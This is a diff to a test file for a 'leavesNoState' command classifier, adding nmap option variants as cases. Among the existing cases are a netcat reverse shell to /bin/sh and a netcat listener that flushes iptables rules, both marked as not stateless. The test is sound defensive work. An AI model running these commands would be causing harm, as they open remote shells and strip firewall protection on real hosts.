@@ -12,6 +12,13 @@ describe("leavesNoState", () => {
     ["nmap -sC -p 22 198.18.43.2", false],
     ["nmap -A -p 22 198.18.43.2", false],
     ["nmap -sV -p 22 198.18.43.2", true],
+    // The reviewer's spellings: nmap takes long options with one dash and bundles short ones.
+    ["nmap -sCV -p 22 198.18.43.2", false],
+    ["nmap -sVC -p 22 198.18.43.2", false],
+    ["nmap -script=vuln 198.18.43.2", false],
+    ["nmap -nA 198.18.43.2", false],
+    ["nmap --datadir /tmp/x -sV 198.18.43.2", false],
+    ["nmap -sA -PA -p 22 198.18.43.2", true],
     ["nc -e /bin/sh 198.18.43.2 22", false],
     ["nc -lc 'iptables -F' -p 9", false],
     ["nc -vz -w 1 198.18.43.2 22", true],
